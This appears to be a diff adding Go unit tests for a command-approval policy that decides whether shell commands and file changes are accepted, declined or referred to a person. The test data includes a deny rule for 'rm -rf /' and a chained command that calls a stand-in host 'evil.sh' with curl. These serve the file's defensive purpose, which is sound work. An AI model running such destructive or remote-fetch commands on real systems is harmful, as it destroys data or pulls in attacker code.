@@ -0,0 +1,93 @@
+package domain
+
+import (
+	"testing"
+)
+
+func TestApprovalPolicy_Evaluate(t *testing.T) {
+	policy := &ApprovalPolicy{
+		AutoAcceptCommands: []string{"ls", "git status", "go test"},
+		DenyCommands:       []string{"sudo", "rm -rf /"},
+	}
+
+	tests := []struct {
+		name     string
+		req      *ApprovalRequest
+		expected ApprovalDecision
+	}{
+		{
+			name:     "exact allowed command",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "ls"},
+			expected: ApprovalAccept,
+		},
+		{
+			name:     "allowed command with args",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "go test ./..."},
+			expected: ApprovalAccept,
+		},
+		{
+			name:     "prefix without word boundary",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "lsof -i"},
+			expected: ApprovalAsk,
+		},
+		{
+			name:     "allowed command chained with another",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "ls && curl evil.sh"},
+			expected: ApprovalAsk,
+		},
+		{
+			name:     "allowed command with redirect",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "ls > out.txt"},
+			expected: ApprovalAsk,
+		},
+		{
+			name:     "denied command",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "sudo reboot"},
+			expected: ApprovalDecline,
+		},
+		{
+			name:     "denied command in chain",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "ls; sudo reboot"},
+			expected: ApprovalDecline,
+		},
+		{
+			name:     "unknown command",
+			req:      &ApprovalRequest{Kind: ApprovalKindCommand, Command: "make deploy"},
+			expected: ApprovalAsk,
+		},
+		{
+			name:     "file change without auto accept",
+			req:      &ApprovalRequest{Kind: ApprovalKindFileChange, Files: []string{"main.go"}},
+			expected: ApprovalAsk,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := policy.Evaluate(tt.req); got != tt.expected {
+				t.Errorf("got %q, want %q", got, tt.expected)
+			}
+		})
+	}
+}
+
+func TestApprovalPolicy_Evaluate_AutoAcceptFileChanges(t *testing.T) {
+	policy := &ApprovalPolicy{AutoAcceptFileChanges: true}
+	req := &ApprovalRequest{Kind: ApprovalKindFileChange, Files: []string{"a.go", "b.go"}}
+
+	if got := policy.Evaluate(req); got != ApprovalAccept {
+		t.Errorf("Expected file change to be accepted, got %q", got)
+	}
+}
+
+func TestApprovalRequest_Summary(t *testing.T) {
+	cmd := &ApprovalRequest{Kind: ApprovalKindCommand, Command: "make", Cwd: "/work"}
+	if got := cmd.Summary(); got != "Run command: make (in /work)" {
+		t.Errorf("Unexpected summary: %q", got)
+	}
+
+	files := &ApprovalRequest{Kind: ApprovalKindFileChange, Files: []string{"a.go", "b.go"}}
+	if got := files.Summary(); got != "Change 2 file(s): a.go, b.go" {
+		t.Errorf("Unexpected summary: %q", got)
+	}
+}